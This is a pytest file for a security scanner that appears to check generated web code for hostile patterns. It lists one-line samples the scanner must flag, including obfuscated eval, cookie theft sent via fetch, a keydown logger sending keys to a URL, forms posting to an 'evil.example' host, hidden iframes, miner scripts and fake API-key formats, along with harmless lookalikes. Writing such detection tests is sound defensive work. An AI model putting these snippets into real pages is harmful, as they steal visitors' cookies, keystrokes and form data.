"""Each rule with what it must find, and what it must leave alone."""

import time
from pathlib import Path

import pytest

from apps.chat.engine.scan import RULES, scan

ROOT = Path(__file__).parents[3]
KEY = "holds what looks like a secret key"

FOUND = [
    ("code_eval", 'eval("1")'),
    ("code_eval", "new Function('return 1')"),
    ("code_eval", "Function('return 1')()"),
    ("code_eval", "setTimeout('steal()', 10)"),
    ("code_eval", "window['eval'](x)"),
    ("code_eval", "window['ev' + 'al'](x)"),
    ("code_hidden", f"run(atob('{'QUJD' * 20}'))"),
    ("code_hidden", "const a = '" + "\\x61" * 25 + "';"),
    ("code_hidden", "String.fromCharCode(" + "104, " * 20 + "1)"),
    ("code_hidden", "document.write(unescape('%3Cscript'))"),
    ("code_hidden", '<iframe src="data:text/html;base64,PHA+"></iframe>'),
    ("code_process", "require('child_process')"),
    ("code_process", "process.env.SECRET"),
    ("code_cookies", "fetch('/x?' + document.cookie)"),
    ("code_cookies", "document['cookie']"),
    ("code_keys", "addEventListener('keydown', (e) => { fetch('/k?' + e.key) })"),
    ("crypto_miner", '<script src="/coinhive.min.js"></script>'),
    ("crypto_miner", "connect('stratum+tcp://pool')"),
    ("remote_script", '<script src="https://x.example/a.js"></script>'),
    ("remote_script", '<script async src="//x.example/a.js"></script>'),
    ("remote_script", "import('https://x.example/a.js')"),
    ("remote_script", "import x from 'https://x.example/a.js';"),
    ("remote_script", "importScripts('/a.js')"),
    ("remote_script", "s.src = 'https://x.example/a.js';"),
    ("inline_handler", "<button onclick=\"fetch('https://x.example/' + value)\">"),
    ("inline_handler", "<img onerror={() => navigator.sendBeacon('https://x.example')}>"),
    ("inline_handler", '<a href="javascript:steal()">'),
    ("meta_refresh", '<meta http-equiv="refresh" content="0;url=https://x.example">'),
    ("meta_refresh", "<meta httpEquiv='refresh'>"),
    ("foreign_form", '<form method="post" action="https://x.example/take">'),
    ("foreign_form", '<form action={"https://formspree.io.evil.example/f"}>'),
    ("foreign_form", '<button formaction="//x.example/take">'),
    ("hidden_frame", '<iframe src="/a" width="0" height="0"></iframe>'),
    ("hidden_frame", '<iframe style="display:none" src="https://x.example"></iframe>'),
    ("hidden_frame", '<iframe class="hidden" src="/a"></iframe>'),
    ("secret", "-----BEGIN RSA PRIVATE KEY-----"),
    ("secret", "AKIAABCDEFGHIJKLMNOP"),
    ("secret", "sk-abcdefghijklmnopqrstuvwx"),
    ("secret", "sk_live_" + "a1" * 10),
    ("secret", "ghp_" + "a1" * 18),
    ("secret", "github_pat_" + "a1" * 30),
    ("secret", "glpat-" + "a1" * 10),
    ("secret", "xoxb-1234567890-abcdefghijkl"),
    ("secret", "AIza" + "Ab1_5" * 7),
    ("secret", "ya29." + "a1" * 20),
    ("secret", "npm_" + "a1" * 18),
    ("secret", "hf_" + "aB1" * 11),
    ("secret", "SG." + "a" * 22 + "." + "b" * 43),
    ("secret", "eyJhbGciOiJIUzI1NiIsInR5.eyJzdWIiOiIxMjM0NTY3ODkw.SflKxwRJSMeKKF2QT4fw"),
    ("secret", "postgres://app:hunter22@db/app"),
    ("secret", 'const apiKey = "9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c";'),
]  # fmt: skip
LEFT = [
    "We do medieval() things.",
    "setTimeout(() => tick(), 10)",
    "new FunctionList()",
    "atob('aGk=')",
    "\\u00e9t\\u00e9",
    "String.fromCharCode(65)",
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "We require (in writing) nothing.".replace("require (", "ask ("),
    "Our cookie policy: document everything. Cookies are sweet.",
    "addEventListener('keydown', (event) => { if (event.key === 'Escape') close(); });",
    "Cryptography and coins, mining museum",
    '<script src="/a.js"></script><script src="http://localhost:4321/a.js"></script>',
    "import Hero from '../components/Hero.astro';",
    '@import "@fontsource-variable/sora";',
    "img.src = 'https://x.example/a.png';",
    '<a href="https://x.example">there</a>',
    "<button onclick=\"this.closest('dialog').close()\">",
    "<button onclick=\"fetch('/subscribe')\">",
    '<a href="javascript:void(0)">',
    '<meta http-equiv="content-type" content="text/html">',
    '<form action="/contact" method="post">',
    '<form action="https://formspree.io/f/abc" method="post">',
    '<form action="https://site.us1.list-manage.com/subscribe/post">',
    '<iframe src="https://www.youtube-nocookie.com/embed/x" width="560" height="315" class="w-full rounded-base"></iframe>',
    '<iframe title="Map" class="md:hidden-none" style="border:0" src="/map"></iframe>',
    "sk-short and ghp_short, AKIA is a name",
    "The task-list-of-things-to-do-before-we-open-the-shop",
    '"password": "At least 12 characters, please choose well"',
    'class="text-primary-foreground-with-a-very-long-name-indeed"',
    "https://user@host/path",
    "-----BEGIN CERTIFICATE-----",
]


@pytest.mark.parametrize(("code", "text"), FOUND, ids=[text[:40] for _, text in FOUND])
def test_found(code: str, text: str):
    assert [rule.code for rule in scan("", f"<p>\n{text}\n</p>")] == [code]


def test_each_rule_has_its_test():
    for rule in RULES:
        found = [text.lower() for code, text in FOUND if code == rule.code and rule.pattern.search(text)]
        assert found, rule
        assert all(any(sign in text for sign in rule.signs) for text in found), rule


@pytest.mark.parametrize("text", LEFT, ids=[text[:40] for text in LEFT])
def test_left_alone(text: str):
    assert [rule.code for rule in scan("", text)] == []


@pytest.mark.parametrize(("code", "text"), FOUND, ids=[text[:40] for _, text in FOUND])
def test_a_persons_own_code_is_theirs(code: str, text: str):
    assert list(scan(text, f"{text}\n<p>more</p>")) == []
    assert [rule.code for rule in scan(text, f"{text}\n{text}")] == [code]


def test_the_library_and_the_templates_pass():
    kinds = (".astro", ".html", ".ts", ".tsx", ".vue", ".svelte", ".css")
    folders = [ROOT / "apps/components/library", ROOT / "workspace_templates"]
    texts = [path for folder in folders for path in folder.rglob("*") if path.suffix in kinds]
    config = ("vite.config.ts", "vite.site.ts", "astro.config.mjs")
    told = {
        str(path): [rule.code for rule in scan("", path.read_text())]
        for path in texts
        if "node_modules" not in path.parts and path.name not in config
    }
    assert {path: codes for path, codes in told.items() if codes} == {}


@pytest.mark.parametrize(
    "piece",
    ["<form ", "<iframe ", " onclick='", "eyJ-", "import ", "https://", "a.", "api_key = '", "<script ", "sk-",
     "<iframe width=", " onclick='fetch ", ".src='//a", "\\x61"],
)  # fmt: skip
def test_long_lines_cost_no_time(piece: str):
    began = time.process_time()
    list(scan("", piece * (100_000 // len(piece))))
    assert time.process_time() - began < 4
